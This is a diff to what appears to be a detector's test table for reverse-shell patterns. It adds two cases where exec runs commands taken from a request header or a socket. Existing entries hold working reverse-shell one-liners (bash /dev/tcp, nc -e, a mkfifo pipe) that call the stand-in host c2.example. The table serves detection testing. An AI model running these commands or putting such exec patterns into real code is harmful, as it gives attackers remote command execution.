@@ -59,6 +59,8 @@ testTable({
   'reverse-shell': {
     hits: [
       ['bash', "exec('bash -i >& /dev/tcp/c2.example/4444 0>&1')"],
+      ['orders of a request', "exec(req.headers['x-cmd'], done)"],
+      ['orders of a socket', "s.on('cmd', (c) => exec(c, (e, out) => s.emit('out', out)))"],
       ['nc', "exec('nc -e /bin/sh c2.example 4444')"],
       ['fifo', "exec('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.example 1 > /tmp/f')"],
       [
